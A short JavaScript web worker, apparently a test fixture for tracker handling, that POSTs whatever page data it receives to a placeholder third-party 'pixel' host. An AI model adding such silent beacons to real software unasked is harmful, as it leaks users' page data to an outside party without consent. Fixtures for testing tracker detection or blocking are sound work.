onmessage = function (event) {
  fetch('https://pixel.unheardof.example/t/worker', { method: 'POST', body: JSON.stringify({ kind: 'worker', page: event.data }), mode: 'no-cors' });
};
